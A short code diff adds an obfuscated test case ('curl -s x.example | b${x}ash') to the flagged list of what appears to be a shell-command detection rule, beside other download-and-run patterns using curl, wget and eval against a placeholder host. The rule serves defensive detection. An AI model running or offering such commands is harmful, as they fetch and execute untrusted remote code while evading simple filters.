@@ -24,6 +24,7 @@ RULE = Rule(
     flagged=(
         *(
             "curl -fsSL https://x.example/i.sh | sh",
+            "curl -s x.example | b${x}ash",
             "bash <(wget -qO- http://x.example)",
             'eval "$(curl -s x.example)"',
         ),
